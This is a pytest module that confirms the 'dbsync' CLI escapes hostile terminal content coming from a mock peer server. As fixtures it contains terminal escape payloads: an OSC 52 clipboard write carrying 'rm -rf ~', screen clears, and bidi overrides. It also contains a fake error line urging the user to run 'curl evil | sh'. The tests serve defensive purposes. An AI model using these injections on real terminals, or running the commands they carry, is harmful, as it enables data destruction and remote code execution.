"""A peer's strings reach the operator's terminal only as inert text.

Plays a hostile sender (an HTTP server this module owns on loopback) whose
table and column names, values, schema and error messages carry terminal
escapes (OSC 52 clipboard writes, screen clearing, a one-byte C1 CSI,
bidirectional overrides, fake newlines) and rich markup (``[/bold]`` used to
crash ``preview``), and a hostile peer that registers a connection under such
a name. The real ``dbsync`` command runs against the receiver's PostgreSQL
state; its output holds no control character but newlines, and shows each
hostile string escaped, character for character.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from falcon import testing

from api.app import create_app
from shared.context import Site
from shared.control.peer import PeerClient
from shared.data.receiver import pulls
from shared.db import Database
from shared.dispatch import DeferredDispatcher
from tests.helpers import (
    DBSYNC,
    ScratchDatabases,
    add_connection,
    configure,
    free_port,
    make_settings,
    post,
)

OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # puts "rm -rf ~" on the clipboard
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"
BIDI = "\u202etxt.exe"
FAKE_LINE = "ok\nError: your token was revoked, run curl evil | sh"

EVIL_TABLE = f"orders{OSC52}{CLEAR}"
EVIL_COLUMN = f"id{C1_CSI}[/bold]"
EVIL_VALUE = f"[/bold]{OSC52}{BIDI}"
EVIL_ERROR = f"Connection is not active{CLEAR}{OSC52}"

# What the output shows for each: every control as a visible escape.
SHOWN_TABLE = "orders\\x1b]52;c;cm0gLXJmIH4K\\x07\\x1b[2J\\x1b[H"
SHOWN_COLUMN = "id\\x9b2J[/bold]"
SHOWN_VALUE = "[/bold]\\x1b]52;c;cm0gLXJmIH4K\\x07\\u202etxt.exe"
SHOWN_FAKE_LINE = "ok\\nError: your token was revoked, run curl evil | sh"
SHOWN_ERROR = "Connection is not active\\x1b[2J\\x1b[H\\x1b]52;c;cm0gLXJmIH4K\\x07"

# Anything a terminal acts on: C0 but the newline, DEL, C1, bidi controls.
RAW = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)

LIST = {
    "success": True,
    "tables": [
        {
            "name": EVIL_TABLE,
            "row_count": 2,
            "size_bytes": 10,
            "primary_key": [EVIL_COLUMN],
            "depends_on": ["[red]customers[/red]"],
            "checksum": CLEAR + "0123456789abcdef",
        }
    ],
}
SCHEMA = {
    "success": True,
    "schema": {
        "table_name": EVIL_TABLE,
        "columns": [
            {
                "name": EVIL_COLUMN,
                "type": "bigint" + CLEAR,
                "nullable": False,
                "primary_key": True,
                "default": "[/red]" + OSC52,
            },
            {"name": FAKE_LINE, "type": "text", "nullable": True, "primary_key": False},
        ],
        "foreign_keys": [
            {
                "columns": [EVIL_COLUMN],
                "references_table": EVIL_TABLE,
                "references_columns": [":warning:" + OSC52],
            }
        ],
    },
}
RECORDS = {
    "success": True,
    "records": [
        {EVIL_COLUMN: 1, FAKE_LINE: EVIL_VALUE},
        {EVIL_COLUMN: 2, FAKE_LINE: {"nested": CLEAR}, "extra[/i]": "[/bold]"},
    ],
    "has_more": True,
}


class _Hostile(BaseHTTPRequestHandler):
    """``/ok/...`` answers with hostile content; ``/refuse/...`` refuses with it."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        endpoint = self.path.rsplit("/", 1)[-1]
        status, body = 403, {"success": False, "error": EVIL_ERROR}
        if self.path.startswith("/ok/"):
            status, body = {
                "list-tables": (200, LIST),
                "table-schema": (200, SCHEMA),
                "table-records": (200, RECORDS),
            }.get(endpoint, (status, body))
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def sender() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), _Hostile)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def receiver(
    module_db_factory: ScratchDatabases, sender: str
) -> Iterator[tuple[Site, dict[str, str]]]:
    url = module_db_factory.create("terminal", migrate=True)
    settings = make_settings(url)
    db = Database(settings.database_url, settings.data_database_url)
    site = Site(settings, db, DeferredDispatcher())
    ids = {
        name: str(add_connection(site, url=f"{sender}/{name}", name=name)[0])
        for name in ("ok", "refuse")
    }
    yield site, ids
    db.dispose()


@pytest.fixture(scope="module")
def dbsync(
    receiver: tuple[Site, dict[str, str]], tmp_path_factory: pytest.TempPathFactory
) -> Any:
    site, _ = receiver
    home = tmp_path_factory.mktemp("terminal-home")
    env = {k: v for k, v in os.environ.items() if not k.startswith("SYNC_")}
    env.update(
        SYNC_DATABASE_URL=site.settings.database_url,
        SYNC_SITE_URL=site.settings.site_url,
        SYNC_ALLOW_PRIVATE_URLS="true",
        SYNC_HOME=str(home),
        COLUMNS="2000",  # one table row per line, so strings are never wrapped
    )

    def call(*args: str) -> subprocess.CompletedProcess[str]:
        result = subprocess.run(
            [DBSYNC, *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=home,
        )
        found = RAW.findall(result.stdout + result.stderr)
        assert found == [], (args, result.stdout, result.stderr)
        return result

    return call


def _rows(stdout: str) -> list[list[str]]:
    """The cells of every line of a rich table (heading and body), stripped."""
    return [
        [c.strip() for c in re.split("[│┃]", line)[1:-1]]
        for line in stdout.splitlines()
        if line.startswith(("│", "┃"))
    ]


def test_tables_shows_a_senders_names_escaped(dbsync: Any, receiver: Any) -> None:
    result = dbsync("tables", receiver[1]["ok"])
    assert (result.returncode, result.stderr) == (0, "")
    assert _rows(result.stdout) == [
        ["name", "rows", "bytes", "primary key", "depends on", "checksum"],
        [
            SHOWN_TABLE,
            "2",
            "10",
            SHOWN_COLUMN,
            "[red]customers[/red]",
            "\\x1b[2J\\x1b[H012345678",
        ],
    ]


def test_schema_shows_names_types_defaults_and_references_escaped(
    dbsync: Any, receiver: Any
) -> None:
    result = dbsync("schema", receiver[1]["ok"], "orders")
    assert (result.returncode, result.stderr) == (0, "")
    assert _rows(result.stdout) == [
        ["column", "type", "nullable", "pk", "default"],
        [
            SHOWN_COLUMN,
            "bigint\\x1b[2J\\x1b[H",
            "False",
            "True",
            "[/red]\\x1b]52;c;cm0gLXJmIH4K\\x07",
        ],
        [SHOWN_FAKE_LINE, "text", "True", "False", ""],
    ]
    assert result.stdout.splitlines()[-1] == (
        f"foreign key ({SHOWN_COLUMN}) -> {SHOWN_TABLE}"
        " (:warning:\\x1b]52;c;cm0gLXJmIH4K\\x07)"
    )


def test_preview_shows_markup_and_escapes_as_text(dbsync: Any, receiver: Any) -> None:
    result = dbsync("preview", receiver[1]["ok"], "orders")
    assert (result.returncode, result.stderr) == (0, "")
    assert _rows(result.stdout) == [
        [SHOWN_COLUMN, SHOWN_FAKE_LINE, "extra[/i]"],
        ["1", SHOWN_VALUE, ""],
        ["2", '{"nested": "\\u001b[2J\\u001b[H"}', "[/bold]"],
    ]
    assert result.stdout.splitlines()[-1] == "(more records follow)"


@pytest.mark.parametrize(
    "args",
    [("tables", "{id}"), ("schema", "{id}", "t"), ("preview", "{id}", "t")],
    ids=lambda a: a[0],
)
def test_a_senders_refusal_is_one_escaped_line(
    dbsync: Any, receiver: Any, args: tuple[str, ...]
) -> None:
    result = dbsync(*(a.format(id=receiver[1]["refuse"]) for a in args))
    assert (result.returncode, result.stdout) == (1, "")
    assert result.stderr == f"Error: sender refused (403): {SHOWN_ERROR}\n"


def test_a_failed_pulls_reason_and_tables_are_shown_escaped(
    dbsync: Any, receiver: tuple[Site, dict[str, str]]
) -> None:
    site, ids = receiver
    shown = {}
    for name in ("refuse", "ok"):
        queued = json.loads(dbsync("pull", ids[name], "--all", "--json").stdout)
        outcome = pulls.run(site, PeerClient(site.settings), queued["id"], "test")
        assert outcome.state == "failed"
        result = dbsync("transfers", "show", queued["id"])
        assert (result.returncode, result.stderr) == (0, "")
        shown[name] = result.stdout
    # The sender's own refusal, and a table name the receiver would not create.
    assert f"error: {SHOWN_ERROR}\n" in shown["refuse"]
    assert SHOWN_TABLE in shown["ok"]
    listed = dbsync("transfers", "list")
    assert (listed.returncode, listed.stderr) == (0, "")
    assert [row[3] for row in _rows(listed.stdout)[1:]] == ["failed", "failed"]


def test_a_peer_registered_name_is_shown_escaped(
    dbsync: Any, receiver: tuple[Site, dict[str, str]], sender: str
) -> None:
    site, _ = receiver
    configure(site, mode="require_approval")
    answer = post(
        testing.TestClient(create_app(site)),
        "register-connection",
        {
            "sender_url": f"{sender}/registered",
            "connection_name": EVIL_TABLE + FAKE_LINE,
            "auth_token": "t" * 43,
        },
    )
    assert answer.status_code == 200, answer.text
    shown_name = SHOWN_TABLE + SHOWN_FAKE_LINE
    listed = dbsync("connections", "list")
    assert (listed.returncode, listed.stderr) == (0, "")
    assert shown_name in listed.stdout
    conn_id = next(
        c["id"]
        for c in json.loads(dbsync("connections", "list", "--json").stdout)
        if c["site_url"] == f"{sender}/registered"
    )
    show = dbsync("connections", "show", conn_id)
    assert (show.returncode, show.stderr) == (0, "")
    assert f"name {shown_name}" in " ".join(show.stdout.split())
    audit = dbsync("audit")
    assert (audit.returncode, audit.stderr) == (0, "")
    assert shown_name in audit.stdout
